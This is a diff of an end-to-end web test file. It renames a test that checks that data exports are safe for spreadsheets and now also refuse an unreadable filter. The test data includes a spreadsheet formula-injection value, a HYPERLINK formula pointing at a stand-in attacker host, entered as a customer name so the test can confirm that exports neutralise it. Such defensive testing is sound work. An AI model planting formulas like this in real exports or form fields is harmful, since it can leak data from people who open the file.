@@ -288,7 +288,9 @@ test('what strangers wrote is shown as text', async ({ page, request }) => {
   await expect(main(page).getByText(`"existing_click_id": ${JSON.stringify(attack)}`)).toBeVisible();
 });
 
-test('an export is safe for spreadsheets, and complete', async ({ request }) => {
+test('an export is safe for spreadsheets and complete, and refuses a filter that it cannot read', async ({
+  request,
+}) => {
   const key = randomUUID();
   const customer = `=HYPERLINK("https://evil.example/${key}")`;
   await lead(request, customer, { click_id: await newClick(request) });
